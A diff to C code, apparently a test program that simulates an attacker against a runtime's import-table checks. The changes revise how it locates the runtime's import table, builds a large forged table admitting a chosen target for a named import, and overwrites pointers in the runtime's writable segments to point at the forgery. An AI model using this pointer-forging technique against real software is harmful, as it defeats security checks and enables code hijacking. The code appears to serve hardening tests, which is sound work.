@@ -333,8 +333,8 @@ struct attack_table_scan
 {
   uintptr_t address;
   uint32_t hash;
-  uintptr_t table;		/* The start of the mapping holding it.  */
-  size_t bytes;
+  uintptr_t entry;		/* The entry found, */
+  uintptr_t start;		/* in the mapping from here.  */
 };
 
 static int
@@ -349,8 +349,8 @@ attack_table_mapping (const struct attack_mapping *m, void *data)
       const struct attack_import_entry *e = (const void *) a;
       if (e->address == scan->address && e->hash == scan->hash)
 	{
-	  scan->table = m->start;
-	  scan->bytes = m->end - m->start;
+	  scan->entry = a;
+	  scan->start = m->start;
 	  return 1;
 	}
     }
@@ -360,8 +360,10 @@ attack_table_mapping (const struct attack_mapping *m, void *data)
 /* Make the runtime's pointer to its import table point to a forged
    one, in which every entry admits TARGET as the type of the import
    NAME of this program's unit.  The runtime's table is found by that
-   import's entry, the pointer by its value in the runtime's writable
-   segments.  */
+   import's entry, in a mapping of its own; the pointer to it, by its
+   value in the runtime's writable segments: any word there that points
+   to a page start of that mapping at or before the entry is taken for
+   it.  */
 static void
 attack_imports (const char *name, void *target)
 {
@@ -381,13 +383,14 @@ attack_imports (const char *name, void *target)
 
   struct attack_table_scan scan = { import->address, import->hash, 0, 0 };
   attack_each_mapping (attack_table_mapping, &scan);
-  if (!scan.table)
+  if (!scan.entry)
     {
       printf ("attacker: no import table\n");
       exit (2);
     }
-  struct attack_import_entry *forged = malloc (scan.bytes);
-  for (size_t i = 0; i < scan.bytes / sizeof *forged; i++)
+  size_t entries = 1 << 16;
+  struct attack_import_entry *forged = malloc (entries * sizeof *forged);
+  for (size_t i = 0; i < entries; i++)
     {
       forged[i].address = (uintptr_t) target;
       forged[i].hash = import->hash;
@@ -397,6 +400,7 @@ attack_imports (const char *name, void *target)
 
   struct attack_object object;
   attack_runtime_object (&object);
+  uintptr_t page = (uintptr_t) sysconf (_SC_PAGESIZE);
   int found = 0, written = 0;
   for (size_t i = 0; i < object.phnum; i++)
     {
@@ -407,7 +411,7 @@ attack_imports (const char *name, void *target)
 				       & ~(sizeof (uintptr_t) - 1));
       uintptr_t *end = (uintptr_t *) (object.bias + p->p_vaddr + p->p_memsz);
       for (; word < end; word++)
-	if (*word == scan.table)
+	if (*word >= scan.start && *word <= scan.entry && *word % page == 0)
 	  {
 	    found++;
 	    written += attack_write (word, &forged, sizeof forged);
